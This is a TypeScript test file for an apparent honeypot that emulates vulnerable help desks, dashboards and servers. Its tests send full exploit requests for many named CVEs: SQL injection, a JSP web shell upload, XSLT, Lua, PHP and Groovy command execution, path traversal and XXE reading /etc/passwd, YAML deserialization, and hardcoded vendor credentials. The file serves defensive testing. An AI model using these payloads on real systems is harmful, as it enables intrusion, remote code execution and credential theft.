/** Help desks, dashboards, clouds and forums, step by step. */

import { expect, it } from 'vitest';
import { stranger, webMachine } from '../../../../test/support/http-visitor.ts';
import { recognisePlanted } from '../../../wire/planted-credential.ts';
import { helpDesks } from './help-desks.ts';
import { openSourceServers } from './open-source-servers.ts';

const id = /uid=\d+\(/;
const products = [...new Set([...helpDesks, ...openSourceServers].map((lure) => lure.product))];
const machine = webMachine('ubuntu-web', products);
const ran = (input: string): unknown => expect.objectContaining({ kind: 'command', input });
const basic = (login: string): Record<string, string> => ({
  Authorization: `Basic ${Buffer.from(login).toString('base64')}`,
});
/** A password of this answer is known again. */
const plants = (body: string): boolean => recognisePlanted(machine, body).length > 0;

it('WhatsUp Gold: an enciphered password is copied to the administrator, who logs in (CVE-2024-6670)', () => {
  const visitor = stranger(machine);
  const login = () =>
    visitor.form('/NmConsole/User/LoginAjax', 'username=admin&password=pa55&rememberMe=false').body;
  visitor.json('/NmConsole/WugSystemAppSettings/JMXSecurity', {
    KeyStorePassword: 'pa55',
    TrustStorePassword: 'pa55',
  });
  expect(login()).toContain('"authenticated":false');
  const copied = visitor.json('/NmConsole/Platform/PerformanceMonitorErrors/HasErrors', {
    deviceId: '1',
    classId:
      "DF215E10-8BD4-4401-B2DC-99BB03135F2E';UPDATE WebUser SET sPassword=(SELECT sValue FROM GlobalSettings WHERE sName='x') where sUserName='admin';--",
    range: '1',
  });
  expect(copied.cves).toContain('CVE-2024-6670');
  expect(copied.body).toBe('false');
  expect(login()).toContain('"authenticated":true');
});

it('ManageEngine: a certificate that is a JSP takes commands (CVE-2021-40539)', () => {
  const visitor = stranger(machine);
  const preview = visitor.form('/./RestAPI/LogonCustomization', 'methodToCall=previewMobLogo');
  expect(preview.cves).toContain('CVE-2021-40539');
  expect(preview.body).toContain('mobLogo');
  visitor.upload('/./RestAPI/LogonCustomization', [
    ['methodToCall', null, 'unspecified'],
    ['form', null, 'smartcard'],
    ['operation', null, 'Add'],
    [
      'CERTIFICATE_PATH',
      'ws.jsp',
      '<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("cmd")).getInputStream()).useDelimiter("\\\\A").next()); %>',
    ],
  ]);
  expect(visitor.get('/help/admin-guide/Reports/ws.jsp?cmd=id').body).toMatch(id);
  expect(stranger(machine).get('/help/admin-guide/Reports/ws.jsp?cmd=id').body).not.toMatch(id);
});

it('ManageEngine: the transform of a SAML answer runs its command (CVE-2022-47966)', () => {
  const xsl = `<?xml version="1.0"?><samlp:Response><ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet><xsl:variable name="r" select="rt:getRuntime()"/><xsl:variable name="p" select="rt:exec($r,'touch /tmp/a')"/></xsl:stylesheet></ds:Transform>${' '.repeat(300)}</samlp:Response>`;
  const seen = stranger(machine).form(
    '/SamlResponseServlet',
    `SAMLResponse=${encodeURIComponent(Buffer.from(xsl).toString('base64'))}`,
  );
  expect(seen.cves).toContain('CVE-2022-47966');
  expect(seen.status).toBe(500);
});

it('Oracle E-Business Suite: an upload brings a script, which takes commands by a header (CVE-2022-21587)', () => {
  const visitor = stranger(machine);
  const call = () => visitor.get('/OA_CGI/FNDWRR.exe', { cmd: 'id' });
  expect(call().body).not.toMatch(id);
  const sent = visitor.upload('/OA_HTML/BneUploaderService?bne:uueupload=TRUE', [
    ['file', 'x.uue', 'begin 664 test.zip\nM4$L#!\n`\nend\n'],
  ]);
  expect(sent.cves).toContain('CVE-2022-21587');
  expect(sent.body).toContain('bne:text');
  expect(call().body).toMatch(id);
});

it('APISIX: a batch makes a route whose Lua runs when it is asked for (CVE-2022-24112)', () => {
  const visitor = stranger(machine);
  expect(visitor.get('/rms/a').body).not.toMatch(id);
  const made = visitor.json('/apisix/batch-requests', {
    headers: { 'X-Real-IP': '127.0.0.1', 'X-API-KEY': 'edd1c9f034335f136f87ad84b625c8f1' },
    timeout: 1_500,
    pipeline: [
      {
        path: '/apisix/admin/routes/index',
        method: 'PUT',
        body: '{"uri":"/rms/a","upstream":{"type":"roundrobin","nodes":{"a":1}},"name":"x","filter_func":"function(vars) local f=io.popen(\'id\'); ngx.say(f:read(\'*a\')) return true end"}',
      },
    ],
  });
  expect(made.cves).toContain('CVE-2022-24112');
  expect(made.body).toContain('"status":201');
  expect(visitor.get('/rms/a').body).toMatch(id);
});

it('vBulletin: a template that a protected method keeps is PHP when it is shown (CVE-2025-48827)', () => {
  const visitor = stranger(machine);
  const shown = () => visitor.form('/', 'routestring=ajax%2Frender%2Fad_a&cmd=id').body;
  expect(shown()).not.toMatch(id);
  const kept = visitor.form(
    '/',
    `routestring=ajax%2Fapi%2Fad%2FreplaceAdTemplate&styleid=1&location=a&template=${encodeURIComponent(`<vb:if condition='"passthru"($_POST["cmd"])'></vb:if>`)}`,
  );
  expect(kept.cves).toContain('CVE-2025-48827');
  expect(shown()).toMatch(id);
});

it('HFS: macros in a search run a command and show it (CVE-2024-23692, CVE-2014-6287)', () => {
  const seen = stranger(machine).get(
    '/?n=%0A&cmd=id&search=%25xxx%25url%25:%password%}{.exec|{.?cmd.}|timeout=15|out=abc.}{.?n.}{.?n.}RESULT:{.?n.}{.?abc.}===={.?n.}',
  );
  expect(seen.cves).toContain('CVE-2024-23692');
  expect(seen.body).toMatch(/RESULT:\nuid=\d[^\0]*====/);
  expect(stranger(machine).get('/?search=%00{.exec|whoami.}').facts).toContainEqual(ran('whoami'));
});

it('read files where the product does', () => {
  const get = (target: string) => stranger(machine).get(target);
  expect(get('/public/plugins/alertlist/../../../../../../../../etc/passwd').body).toContain('root:x:0:0');
  expect(plants(get('/public/plugins/text/../../../../../../../../etc/grafana/grafana.ini').body)).toBe(true);
  expect(get('/api/geojson?url=file:////etc/passwd').body).toContain('root:x:0:0');
  const nakivo = stranger(machine).json('/c/router', {
    action: 'STPreLoadManagement',
    method: 'getImageByPath',
    data: ['/etc/passwd'],
    type: 'rpc',
    tid: 1,
  });
  expect(nakivo.cves).toContain('CVE-2024-48248');
  const octets = /"data":\[([\d,]+)\]/.exec(nakivo.body)?.[1] ?? '';
  expect(Buffer.from(octets.split(',').map(Number)).toString('latin1')).toContain('root:x:0:0');
  const map = stranger(machine).send(
    'POST',
    '/geoserver/wms?service=WMS&version=1.1.0&request=GetMap',
    { 'Content-Type': 'application/xml' },
    '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><StyledLayerDescriptor version="1.0.0"><NamedLayer><Name>&x;</Name></NamedLayer></StyledLayerDescriptor>',
  );
  expect(map.cves).toContain('CVE-2025-58360');
  expect(map.body).toMatch(/Unknown layer: root:x:0:0/);
  const array = stranger(machine).get('/prx/000/http/localhost/login', {
    X_AN_FILESHARE:
      'uname=t; password=t; sp_uname=t; flags=c3248;fshare_template=../../../../../../etc/passwd',
  });
  expect(array.cves).toContain('CVE-2023-28461');
  expect(array.body).toContain('root:x:0:0');
  const report = stranger(machine).form(
    '/npm-pwg/..;/ReconcileWizard/reconcilewizard/sc/IDACall?isc_rpc=1&isc_v=&isc_tnum=2',
    `_transaction=${encodeURIComponent('<transaction><operations><elem><criteria><reportName>../../../etc/passwd</reportName></criteria></elem></operations></transaction>')}`,
  );
  expect(report.cves).toContain('CVE-2024-41713');
  expect(report.body).toContain('root:x:0:0');
});

it('leave credentials that are known again', () => {
  const desk = stranger(machine).get(
    '/helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets',
    basic('helpdeskIntegrationUser:dev-C4F8025E7'),
  );
  expect(desk.cves).toContain('CVE-2024-28987');
  expect(plants(desk.body)).toBe(true);
  const cloud = stranger(machine).get(
    '/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css',
  );
  expect(cloud.cves).toContain('CVE-2023-49103');
  expect(cloud.body).toContain('OWNCLOUD_ADMIN_PASSWORD');
  expect(new Set(recognisePlanted(machine, cloud.body).map(({ form }) => form))).toEqual(
    new Set(['AWS access key', 'password']),
  );
  const page = stranger(machine).get(
    `/login.do?jvar_page_title=${encodeURIComponent("<style><j:jelly xmlns:j='jelly' xmlns:g='glide'><g:evaluate>z=new Packages.java.io.File('').getAbsolutePath();SecurelyAccess(z+'/co..nf/glide.db.properties')</g:evaluate></j:jelly></style>")}`,
  );
  expect(page.cves).toContain('CVE-2024-4879');
  expect(plants(page.body)).toBe(true);
  const actuator = stranger(machine).get('/portalapi/actuator/env', { Connection: 'X-Real-Ip' });
  expect(actuator.cves).toContain('CVE-2025-34026');
  expect(plants(actuator.body)).toBe(true);
  const licence = stranger(machine).get('/cslu/v1/scheduler/jobs', basic('cslu-windows-client:Library4C$LU'));
  expect(licence.cves).toContain('CVE-2024-20439');
  expect(plants(licence.body)).toBe(true);
});

it('ServiceNow: the script of a title prints a product (CVE-2024-4879)', () => {
  const seen = stranger(machine).get(
    `/login.do?jvar_page_title=${encodeURIComponent("<style><j:jelly xmlns:j='jelly' xmlns:g='glide'><g:evaluate>gs.addErrorMessage(668.5*2);</g:evaluate></j:jelly></style>")}`,
  );
  expect(seen.body).toContain('>1337<');
});

it('run commands, and show what they print where the product does', () => {
  const cacti = (headers: Record<string, string>) =>
    stranger(machine).get(
      '/remote_agent.php?action=polldata&local_data_ids[0]=6&host_id=1&poller_id=`touch+/tmp/a`',
      headers,
    );
  expect(cacti({}).body).toContain('not authorized');
  const polled = cacti({ 'X-Forwarded-For': '127.0.0.1' });
  expect(polled.cves).toContain('CVE-2022-46169');
  expect(polled.body).toContain('"rrd_name":"proc"');
  expect(polled.facts).toContainEqual(ran('touch /tmp/a'));
  const glpi = stranger(machine).form(
    '/vendor/htmlawed/htmlawed/htmLawedTest.php',
    'sid=foo&hhook=exec&text=cat+/etc/passwd',
  );
  expect(glpi.cves).toContain('CVE-2022-35914');
  expect(glpi.body).toContain('[0] =&gt; root:x:0:0');
  const spark = stranger(machine).get('/?doAs=`id`');
  expect(spark.status).toBe(403);
  expect(spark.facts).toContainEqual(ran('id'));
  const graph = stranger(machine).json('/gremlin', {
    gremlin:
      'Thread thread = Thread.currentThread();Class clz = Class.forName("java.lang.ProcessBuilder");new ProcessBuilder("id").start()',
  });
  expect(graph.cves).toContain('CVE-2024-27348');
  expect(graph.body).toMatch(/"code":200/);
  const flow = stranger(machine).json('/api/v1/node-load-method/customMCP', {
    loadMethod: 'listActions',
    inputs: {
      mcpServerConfig:
        '({x:(function(){const cp = process.mainModule.require("child_process");cp.execSync("id");return 1;})()})',
    },
  });
  expect(flow.cves).toContain('CVE-2025-59528');
  expect(flow.body).toContain('No Available Actions');
  const bricks = stranger(machine).json('/wp-json/bricks/v1/render_element', {
    postId: '1',
    nonce: 'a',
    element: {
      name: 'container',
      settings: { hasLoop: 'true', query: { useQueryEditor: true, queryEditor: 'a' } },
      code: '<?php throw new Exception(`id`);?>',
    },
  });
  expect(bricks.cves).toContain('CVE-2024-25600');
  expect(bricks.body).toMatch(/Exception: uid=\d/);
  const groovy = stranger(machine).send(
    'POST',
    '/iam/governance/applicationmanagement/api/v1/applications/groovyscriptstatus;.wadl',
    { 'Content-Type': 'application/xml' },
    '@groovy.transform.ASTTest(value={Runtime.getRuntime().exec("id")}) class A {}',
  );
  expect(groovy.cves).toContain('CVE-2025-61757');
  expect(groovy.body).toBe('Script Compilation Successful.');
  expect(groovy.facts).toContainEqual(ran('id'));
  const aria = stranger(machine).send(
    'POST',
    '/saas./resttosaasservlet',
    { 'Content-Type': 'application/x-thrift' },
    '[1,"createSupportBundle",1,0,{"1":{"str":"1111"},"2":{"str":"`id`"},"3":{"str":"value3"},"4":{"lst":["str",2,"AAAA","BBBB"]}}]',
  );
  expect(aria.cves).toContain('CVE-2023-20887');
  expect(aria.facts).toContainEqual(ran('id'));
  const package_ = stranger(machine).json('/aspera/faspex/package_relay/relay_package', {
    package_file_list: ['/'],
    external_emails:
      '\n---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::RequestSet\n    git_set: id\n    method_id: :resolve\n',
  });
  expect(package_.cves).toContain('CVE-2022-47986');
  expect(package_.status).toBe(500);
});
